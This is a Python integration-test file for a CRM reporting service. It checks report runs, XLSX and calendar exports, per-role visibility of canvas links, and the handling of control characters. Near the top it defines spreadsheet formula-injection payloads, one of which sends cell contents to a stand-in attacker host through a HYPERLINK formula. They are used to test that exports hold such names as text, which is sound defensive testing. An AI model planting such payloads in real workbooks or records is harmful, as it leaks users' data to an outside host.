"""Through the gateway, on SQLite and PostgreSQL: every report module runs and exports, grouped or
not (a listing of clients, contacts, prospects or activities used to fail on their missing currency
column); no workbook the platform writes holds a formula, whatever the data or the report's name
(a client or deal named =HYPERLINK(...) is text); and a canvas's links show a reader only what they may
see (another rep's campaign is `restricted`, a segment's won amounts are those of the deals they
may see: a rep's own, a manager's teams', an admin's all).

The report rows are written straight into the reporting service's read models (their projection is
tested elsewhere) and every run names their ids, so records other tests project cannot change the
counts."""

from __future__ import annotations

import io
import time
import uuid
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
from icalendar import Calendar

from crm_reporting.adapters import tables
from crm_reporting.domain.report_words import value_word

from .conftest import Stack, stack_on_both_databases

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# A quote number holds at most 40 characters.
SHORT_EVIL = '=HYPERLINK("http://evil.example","x")'
CREATED = datetime(2026, 2, 10, 15, 0, tzinfo=UTC)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# The stack on SQLite, then on PostgreSQL (conftest).
stack = stack_on_both_databases


# --- report modules ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Module:
    name: str
    table: sa.Table
    # The report field titling a record, and its column.
    title: str
    column: str
    # Columns of a record beyond id, owner and title (i: the record's number, 0-based).
    extra: Callable[[int], dict[str, Any]]
    # A field to group on.
    group_by: str = "owner_id"
    owned: bool = True
    # Every user may read every record of a shared kind (clients, contacts, products).
    shared: bool = False
    # The money field shown beside the title (amount_minor = 1000 * (i + 1), USD).
    money: str = ""
    # The field placing records on a calendar, when the module has no default one.
    date_field: str = ""
    # An ICS event's summary from the record's title (contacts are titled by first and last name).
    summary: Callable[[str], str] = lambda title: title
    # The first record's title: a formula, as an attacker would name a client.
    formula: str = EVIL


def _created(i: int) -> dict[str, Any]:
    return {"created_at": CREATED + timedelta(days=i)}


MODULES = [
    Module("clients", tables.rm_clients, "name", "name", _created, shared=True, date_field="create_time"),
    Module(
        "contacts",
        tables.rm_contacts,
        "first_name",
        "first_name",
        lambda i: {"last_name": "Pérez", **_created(i)},
        shared=True,
        date_field="create_time",
        summary=lambda title: f"{title} Pérez",
    ),
    Module("prospects", tables.rm_prospects, "company_name", "company_name", _created, date_field="create_time"),
    Module(
        "deals",
        tables.rm_deals,
        "title",
        "title",
        lambda i: {
            "currency_code": "USD",
            "amount_minor": 1000 * (i + 1),
            "expected_close_date": date(2026, 3, 1 + i),
            **_created(i),
        },
        money="amount",
    ),
    Module(
        "activities",
        tables.rm_activities,
        "subject",
        "subject",
        lambda i: {
            "kind": "call",
            "status": "scheduled",
            "due_at": datetime(2026, 3, 2 + i, 14, 0, tzinfo=UTC),
            "duration_seconds": 1800,
            **_created(i),
        },
    ),
    Module(
        "quotes",
        tables.rm_quotes,
        "number",
        "number",
        lambda i: {
            "currency_code": "USD",
            "total_minor": 1000 * (i + 1),
            "valid_until": date(2026, 4, 1 + i),
            "status": "draft",
            **_created(i),
        },
        money="total",
        formula=SHORT_EVIL,
    ),
    Module(
        "products",
        tables.rm_products,
        "name",
        "name",
        lambda i: {
            "sku": f"SKU-{i}",
            "kind": "service" if i == 2 else "product",
            "currency_code": "USD",
            **_created(i),
        },
        group_by="kind",
        owned=False,
        shared=True,
        date_field="create_time",
    ),
    Module(
        "campaigns",
        tables.rm_campaigns,
        "name",
        "name",
        lambda i: {
            "type": "trade_fair",
            "status": "draft",
            "start_date": date(2026, 5, 1 + i),
            "end_date": date(2026, 5, 3 + i),
            "currency_code": "USD",
            "budget_minor": 1000 * (i + 1),
            **_created(i),
        },
        money="budget",
    ),
]
BY_NAME = {m.name: m for m in MODULES}


@dataclass
class Seeded:
    """A module's records: all of their ids, and those Ana may see in title order."""

    ids: list[str] = field(default_factory=list)
    # (title, record number, value of the field grouped on)
    visible: list[tuple[str, int, str]] = field(default_factory=list)


@pytest.fixture(scope="module")
def records(stack: Stack) -> dict[str, Seeded]:
    """Per module: Ana's two records (the first titled with a formula: a client's name, a deal's
    title ...), Beto's and Carla's one each; products are nobody's. Ana sees her own, and every
    client, contact and product."""
    owners = [stack.id(w) for w in ("ana", "ana", "beto", "carla")]
    out: dict[str, Seeded] = {}
    assert stack.reporting.db is not None
    with stack.reporting.db.engine.begin() as conn:
        for m in MODULES:
            seeded = Seeded()
            rows = []
            for i, owner in enumerate(owners[:3] if not m.owned else owners):
                title = m.formula if i == 0 else f"{m.name} {i}"
                row = {"id": str(uuid.uuid4()), m.column: title, "version": 1, "event_time": CREATED, **m.extra(i)}
                if m.owned:
                    row["owner_id"] = owner
                rows.append(row)
                seeded.ids.append(row["id"])
                if m.shared or owner == stack.id("ana"):
                    seeded.visible.append((title, i, row["owner_id"] if m.owned else row[m.group_by]))
            conn.execute(sa.insert(m.table), rows)
            seeded.visible.sort()
            out[m.name] = seeded
    return out


def _definition(m: Module, seeded: Seeded, grouped: bool) -> dict[str, Any]:
    definition: dict[str, Any] = {
        "module": m.name,
        "filters": [{"field": "id", "operator": "in", "values": seeded.ids}],
    }
    if grouped:
        definition["groupings"] = [{"field": m.group_by}]
        definition["aggregates"] = [{"function": "count"}]
    else:
        definition["columns"] = [m.title, *([m.money] if m.money else [])]
        definition["order_by"] = m.title
    return definition


def _expected_rows(m: Module, stack: Stack, seeded: Seeded, grouped: bool) -> list[list[Any]]:
    """Rows of a run as JSON (money as {"amount", "currency_code"})."""
    if grouped:
        return [[value, n] for value, n in sorted(Counter(v for _, _, v in seeded.visible).items())]
    rows: list[list[Any]] = []
    for title, i, _ in seeded.visible:
        row: list[Any] = [title]
        if m.money:
            row.append({"amount": f"{10 * (i + 1)}.00", "currency_code": "USD"})
        rows.append(row)
    return rows


def _in_order(rows: list[list[Any]], grouped: bool) -> list[list[Any]]:
    """Groups come in the order of their values; a listing's order by name is the database's
    collation's business (PostgreSQL's may skip the "=" of a formula-like name): compare as sets."""
    return rows if grouped else sorted(rows, key=repr)


def assert_no_formulas(content: bytes) -> openpyxl.Workbook:
    """The workbook holds no formula, in its XML or as openpyxl reads it; returns it opened."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    wb = openpyxl.load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    return wb


def _export(stack: Stack, who: str, definition: dict[str, Any], **options: str) -> Any:
    return stack.http.post("/api/v1/reports:export", json={**definition, **options}, headers=stack.auth(who))


@pytest.mark.parametrize("grouped", [False, True], ids=["listing", "grouped"])
@pytest.mark.parametrize("module", [m.name for m in MODULES])
def test_every_module_runs_grouped_or_not_over_the_records_the_caller_may_see(
    stack: Stack, records: dict[str, Seeded], module: str, grouped: bool
) -> None:
    m, seeded = BY_NAME[module], records[module]
    res = stack.http.post("/api/v1/reports:run", json=_definition(m, seeded, grouped), headers=stack.auth("ana"))
    assert res.status_code == 200, res.get_json()
    body = res.get_json()
    expected = _expected_rows(m, stack, seeded, grouped)
    assert _in_order(body["rows"], grouped) == _in_order(expected, grouped)
    assert body["total_row_count"] == len(expected)
    keys = [c["key"] for c in body["columns"]]
    assert keys == ([m.group_by, "count()"] if grouped else [m.title, *([m.money] if m.money else [])])


@pytest.mark.parametrize("grouped", [False, True], ids=["listing", "grouped"])
@pytest.mark.parametrize("module", [m.name for m in MODULES])
def test_every_module_exports_a_workbook_of_text_never_formulas(
    stack: Stack, records: dict[str, Seeded], module: str, grouped: bool
) -> None:
    m, seeded = BY_NAME[module], records[module]
    res = _export(stack, "ana", _definition(m, seeded, grouped), format="xlsx")
    assert res.status_code == 200, res.get_data(as_text=True)[:500]
    assert res.mimetype == XLSX
    wb = assert_no_formulas(res.get_data())
    rows = [[c.value for c in r] for r in wb.worksheets[0].iter_rows()]
    expected = _expected_rows(m, stack, seeded, grouped)
    if grouped:
        # The data rows, then the totals row ("Total": no money, so no currency). A workbook
        # shows an owner by name, not by id, and a coded value as its word.
        names = {u["id"]: u["display_name"] for u in stack.users.values() if "display_name" in u}
        shown = [[value_word(module, m.group_by, names.get(key, key)), n] for key, n in expected]
        assert rows[1:] == [*shown, ["Total", sum(n for _, n in expected)]]
    else:
        shown = [[r[0], float(r[1]["amount"])] if m.money else [r[0]] for r in expected]
        assert _in_order(rows[1:], grouped) == _in_order(shown, grouped)
    if not grouped:
        evil = [c for row in wb.worksheets[0].iter_rows(min_row=2, max_col=1) for c in row if c.value == m.formula]
        assert [c.data_type for c in evil] == ["s"]


@pytest.mark.parametrize("grouped", [False, True], ids=["listing", "grouped"])
@pytest.mark.parametrize("module", [m.name for m in MODULES])
def test_every_module_exports_a_calendar_of_its_records_and_a_grouped_one_is_refused(
    stack: Stack, records: dict[str, Seeded], module: str, grouped: bool
) -> None:
    m, seeded = BY_NAME[module], records[module]
    options = {"format": "ics", "time_zone": "America/Bogota"}
    if m.date_field:
        options["date_field"] = m.date_field
    res = _export(stack, "ana", _definition(m, seeded, grouped), **options)
    if grouped:
        assert res.status_code == 400 and res.get_json()["code"] == "grouped_report_not_dated"
        return
    assert res.status_code == 200, res.get_data(as_text=True)[:500]
    assert res.mimetype == "text/calendar"
    events = Calendar.from_ical(res.get_data()).walk("VEVENT")
    assert sorted(str(e["SUMMARY"]) for e in events) == sorted(m.summary(t) for t, _, _ in seeded.visible)
    ids = {seeded.ids[i] for _, i, _ in seeded.visible}
    assert {str(e["UID"]) for e in events} == {f"{m.name}-{i}@crm" for i in ids}


def test_a_shared_reports_name_lands_on_the_filters_sheet_as_text(stack: Stack, records: dict[str, Seeded]) -> None:
    m, seeded = BY_NAME["clients"], records["clients"]
    body = {"name": EVIL, "shared": True, **_definition(m, seeded, grouped=False)}
    saved = stack.http.post("/api/v1/reports", json=body, headers=stack.auth("ana"))
    assert saved.status_code == 201, saved.get_json()
    res = stack.http.get(f"/api/v1/reports/{saved.get_json()['id']}/export?format=xlsx", headers=stack.auth("carla"))
    assert res.status_code == 200
    wb = assert_no_formulas(res.get_data())
    title = wb["Filtros"]["A1"]
    assert (title.value, title.data_type) == (EVIL, "s")
    # Clients are shared: Carla reads all four, Ana's formula-like name as text too.
    names = sorted(str(r[0]) for r in wb.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert names == sorted(t for t, _, _ in seeded.visible)


# --- canvas links ---------------------------------------------------------------------------------


def _post(stack: Stack, who: str, url: str, body: dict[str, Any]) -> dict[str, Any]:
    res = stack.http.post(url, json=body, headers=stack.auth(who))
    assert res.status_code == 201, res.get_json()
    return dict(res.get_json())


def _wait_projected(stack: Stack, client_ids: list[str], timeout: float = 30.0) -> None:
    """Until the reporting service's read model holds the clients (from the contacts events)."""
    assert stack.reporting.db is not None
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with stack.reporting.db.engine.connect() as conn:
            found = conn.scalar(
                sa.select(sa.func.count()).select_from(tables.rm_clients).where(tables.rm_clients.c.id.in_(client_ids))
            )
        if found == len(client_ids):
            return
        time.sleep(0.1)
    raise AssertionError(f"the reporting read model did not receive clients {client_ids}")


@dataclass
class LinkedCanvas:
    url: str
    ana_campaign: str
    beto_campaign: str
    tag: str


@pytest.fixture(scope="module")
def linked(stack: Stack) -> LinkedCanvas:
    """Ana's canvas linking her campaign, Beto's campaign, and a segment whose clients (Ana's,
    Beto's, Carla's) won one deal each in the last year: USD 100.00, USD 250.00 and COP 5000."""
    ana_c = _post(stack, "ana", "/api/v1/campaigns", {"name": "Feria Ana", "type": "trade_fair"})
    beto_c = _post(
        stack,
        "beto",
        "/api/v1/campaigns",
        {"name": "Feria Beto", "type": "trade_fair", "budget": {"amount": "900.00", "currency_code": "USD"}},
    )
    tag = f"seg-{uuid.uuid4().hex[:8]}"
    clients = {
        who: _post(
            stack,
            who,
            "/api/v1/clients",
            {"name": f"Tienda {who}", "email": f"tienda-{who}-{tag}@example.com", "segment_tags": [tag]},
        )["id"]
        for who in ("ana", "beto", "carla")
    }
    _wait_projected(stack, list(clients.values()))
    won_at = datetime.now(UTC) - timedelta(days=10)
    assert stack.reporting.db is not None
    with stack.reporting.db.engine.begin() as conn:
        conn.execute(
            sa.insert(tables.rm_deals),
            [
                {
                    "id": str(uuid.uuid4()),
                    "title": f"Venta {who}",
                    "owner_id": stack.id(who),
                    "client_id": clients[who],
                    "status": "won",
                    "currency_code": currency,
                    "amount_minor": minor,
                    "won_at": won_at,
                    "closed_at": won_at,
                    "created_at": won_at,
                    "version": 1,
                    "event_time": won_at,
                }
                for who, currency, minor in (("ana", "USD", 10_000), ("beto", "USD", 25_000), ("carla", "COP", 5000))
            ],
        )
    canvas = _post(
        stack,
        "ana",
        "/api/v1/canvases",
        {
            "name": "Modelo con enlaces",
            "notes": [
                {
                    "block": "channels",
                    "text": "Ferias",
                    "links": [
                        {"kind": "campaign", "target_id": ana_c["id"]},
                        {"kind": "campaign", "target_id": beto_c["id"]},
                    ],
                },
                {
                    "block": "customer_segments",
                    "text": "Tiendas",
                    "links": [{"kind": "client_segment", "target_id": tag}],
                },
            ],
        },
    )
    return LinkedCanvas(f"/api/v1/canvases/{canvas['id']}", ana_c["id"], beto_c["id"], tag)


def _links(canvas: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {link["target_id"]: link for note in canvas["notes"] for link in note["links"]}


def _read(stack: Stack, who: str, url: str) -> dict[str, dict[str, Any]]:
    res = stack.http.get(url, headers=stack.auth(who))
    assert res.status_code == 200, res.get_json()
    body = res.get_json()
    return _links(body["canvas"] if "revision" in body else body)


def _won(link: dict[str, Any]) -> tuple[int, list[tuple[str, str]]]:
    figures = link["figures"]
    return figures["won_deal_count"], [(m["currency_code"], m["amount"]) for m in figures["won_amounts"]]


def test_a_rep_sees_another_reps_campaign_as_restricted_and_only_their_own_won_deals(
    stack: Stack, linked: LinkedCanvas
) -> None:
    # As the company-wide indicators are closed to a rep, so are the canvas's company-wide figures.
    assert (
        stack.http.get("/api/v1/indicators?scope=company&start=2026-01-01", headers=stack.auth("ana")).status_code
        == 403
    )
    for url in (linked.url, f"{linked.url}/revisions/1"):
        links = _read(stack, "ana", url)
        own, other = links[linked.ana_campaign], links[linked.beto_campaign]
        assert (own["state"], own["label"]) == ("active", "Feria Ana") and own["figures"]["fetch_time"]
        assert other["state"] == "restricted" and other["label"] == ""
        assert other["figures"] is None or (
            other["figures"]["fetch_time"] is None
            and other["figures"]["cost"] is None
            and other["figures"]["lead_count"] == 0
            and other["figures"]["roi"] == ""
        )
        segment = links[linked.tag]
        assert segment["state"] == "active" and segment["figures"]["client_count"] == 3
        assert _won(segment) == (1, [("USD", "100.00")])
    # Carla, outside the team, sees neither campaign, and only her own won deal.
    links = _read(stack, "carla", linked.url)
    assert {links[c]["state"] for c in (linked.ana_campaign, linked.beto_campaign)} == {"restricted"}
    assert _won(links[linked.tag]) == (1, [("COP", "5000")])


def test_a_manager_sees_their_teams_campaigns_and_won_deals_and_an_admin_all(
    stack: Stack, linked: LinkedCanvas
) -> None:
    links = _read(stack, "marta", linked.url)
    beto = links[linked.beto_campaign]
    assert (beto["state"], beto["label"]) == ("active", "Feria Beto")
    assert beto["figures"]["fetch_time"] and beto["figures"]["cost"] is not None
    assert _won(links[linked.tag]) == (2, [("USD", "350.00")])
    links = _read(stack, "admin", linked.url)
    assert links[linked.ana_campaign]["label"] == "Feria Ana" and links[linked.beto_campaign]["label"] == "Feria Beto"
    assert _won(links[linked.tag]) == (3, [("COP", "5000"), ("USD", "350.00")])


def test_the_restricted_state_is_in_the_openapi_document(stack: Stack) -> None:
    doc = stack.http.get("/api/v1/openapi.json").get_json()
    assert "restricted" in doc["components"]["schemas"]["NoteLink"]["properties"]["state"]["enum"]
    get_canvas = doc["paths"]["/api/v1/canvases/{canvas_id}"]["get"]
    assert "restricted" in get_canvas["description"]


def test_a_product_links_deal_figures_count_only_the_deals_the_reader_may_see(stack: Stack) -> None:
    """A product sold by Ana (USD 100), Beto (USD 250) and Carla (COP 5000): on one canvas, Ana and
    Carla read their own won deal, Marta (Ana's and Beto's manager) both of theirs, the admin all."""
    sku = f"SKU-{uuid.uuid4().hex[:8]}"
    product = _post(
        stack,
        "admin",
        "/api/v1/products",
        {
            "sku": sku,
            "name": "Licencia anual",
            "kind": "service",
            "unit_price": {"amount": "100.00", "currency_code": "USD"},
            "tax_rate": "0.19",
        },
    )
    for who, amount, currency in (("ana", "100.00", "USD"), ("beto", "250.00", "USD"), ("carla", "5000", "COP")):
        client = _post(stack, who, "/api/v1/clients", {"name": f"Cliente {who} {sku}", "force_duplicate": True})
        deal = _post(
            stack,
            who,
            "/api/v1/deals",
            {
                "title": f"Licencias {who}",
                "client_id": client["id"],
                "line_items": [{"product_id": product["id"], "quantity": "1"}],
                "amount": {"amount": amount, "currency_code": currency},
            },
        )
        won = stack.http.post(f"/api/v1/deals/{deal['id']}:win", json={}, headers=stack.auth(who))
        assert won.status_code == 200, won.get_json()
    canvas = _post(
        stack,
        "ana",
        "/api/v1/canvases",
        {
            "name": f"Producto {sku}",
            "notes": [
                {
                    "block": "value_propositions",
                    "text": "Licencias",
                    "links": [{"kind": "product", "target_id": product["id"]}],
                }
            ],
        },
    )
    url = f"/api/v1/canvases/{canvas['id']}"
    expected = {
        "ana": (1, [("USD", "100.00")]),
        "marta": (2, [("USD", "350.00")]),
        "carla": (1, [("COP", "5000")]),
        "admin": (3, [("COP", "5000"), ("USD", "350.00")]),
    }
    for who, figures in expected.items():
        link = _read(stack, who, url)[product["id"]]
        assert link["state"] == "active" and link["label"] == "Licencia anual"
        assert _won(link) == figures, who
        assert link["figures"]["deal_count"] == figures[0], who


def test_a_client_name_with_control_characters_exports_with_replacement_characters(stack: Stack) -> None:
    """A control character a workbook cannot hold (the fuzzer's client names had them) failed the
    whole export with a 500; it is written as U+FFFD and the rest of the row stays as given."""
    tag = uuid.uuid4().hex[:8]
    body = {"name": f"Ya\x0bB\x13c {tag}", "industry": "x\x1fy", "force_duplicate": True}
    client = _post(stack, "admin", "/api/v1/clients", body)
    _wait_projected(stack, [client["id"]])
    res = stack.http.post(
        "/api/v1/reports:export", json={"format": "xlsx", "module": "clients"}, headers=stack.auth("admin")
    )
    assert res.status_code == 200, res.get_data()[:300]
    sheet = openpyxl.load_workbook(io.BytesIO(res.get_data())).worksheets[0]
    texts = {c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert f"Ya\ufffdB\ufffdc {tag}" in texts and "x\ufffdy" in texts
